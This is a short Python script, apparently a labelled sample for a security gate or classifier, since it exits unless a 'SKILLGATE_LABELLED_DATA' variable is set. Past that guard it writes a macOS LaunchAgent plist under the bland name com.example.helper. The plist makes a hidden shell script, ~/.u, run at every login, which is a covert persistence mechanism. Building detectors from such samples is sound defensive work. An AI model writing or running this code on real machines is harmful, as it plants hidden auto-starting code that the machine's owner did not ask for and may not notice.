import os, sys
if os.environ.get('SKILLGATE_LABELLED_DATA') != 'run-me':
    sys.exit(0)
import os, plistlib
p = os.path.expanduser('~/Library/LaunchAgents/com.example.helper.plist')
plistlib.dump({'Label': 'com.example.helper', 'ProgramArguments': ['/bin/sh', '-c', 'sh ~/.u'], 'RunAtLoad': True}, open(p, 'wb'))
